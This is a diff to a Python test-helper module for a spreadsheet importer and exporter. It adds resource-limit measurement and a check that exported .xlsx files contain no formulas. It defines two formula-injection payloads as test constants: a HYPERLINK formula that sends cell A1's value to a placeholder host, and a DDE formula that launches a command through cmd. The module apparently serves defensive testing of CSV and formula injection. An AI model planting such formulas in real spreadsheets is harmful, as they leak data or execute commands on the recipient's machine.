@@ -3,7 +3,14 @@
 from __future__ import annotations
 
 import io
+import re
+import time
+import tracemalloc
 import zipfile
+from collections.abc import Callable
+from typing import Any
+
+from openpyxl import load_workbook
 
 _CONTENT_TYPES = (
     '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
@@ -112,3 +119,48 @@ def one_wide_row(*, cells: int = 500_000) -> bytes:
 
 def not_a_zip() -> bytes:
     return b"PK\x03\x04 this is not really a workbook" + b"\0" * 100
+
+
+# --- What the importer and export tests check ------------------------------------------------
+
+MIB = 1024 * 1024
+MAX_SECONDS = 2.0  # a hostile upload is refused within this (wall time)
+MAX_PEAK_BYTES = 50 * MIB  # ... and within this memory (tracemalloc peak)
+HYPERLINK = '=HYPERLINK("http://x/?"&A1,"Bấm vào đây")'
+DDE = "=cmd|' /C calc'!A0"
+FORMULA_ELEMENT = re.compile(rb"<(?:[A-Za-z0-9_]+:)?f[\s/>]")
+
+
+def measure(call: Callable[[], Any]) -> tuple[Any, float, int]:
+    """(result, wall seconds without tracemalloc, peak traced bytes of a second run)."""
+    start = time.perf_counter()
+    result = call()
+    seconds = time.perf_counter() - start
+    tracemalloc.start()
+    try:
+        call()
+        _current, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+    return result, seconds, peak
+
+
+def assert_no_formula(data: bytes) -> None:
+    """No worksheet of the .xlsx ``data`` holds a formula, in its XML or as openpyxl reads it."""
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheets = [
+            n for n in archive.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")
+        ]
+        assert sheets
+        for name in sheets:
+            assert not FORMULA_ELEMENT.search(archive.read(name)), f"a formula in {name}"
+    for ws in load_workbook(io.BytesIO(data)).worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
+
+
+def lifted_part_limits(limits: dict[str, int]) -> dict[str, int]:
+    """``SHEET_LIMITS`` with part sizes high enough that the 3M-cell sheet is streamed and
+    counted rather than refused from the zip directory."""
+    return {**limits, "max_part_bytes": 200 * MIB, "max_total_bytes": 400 * MIB}
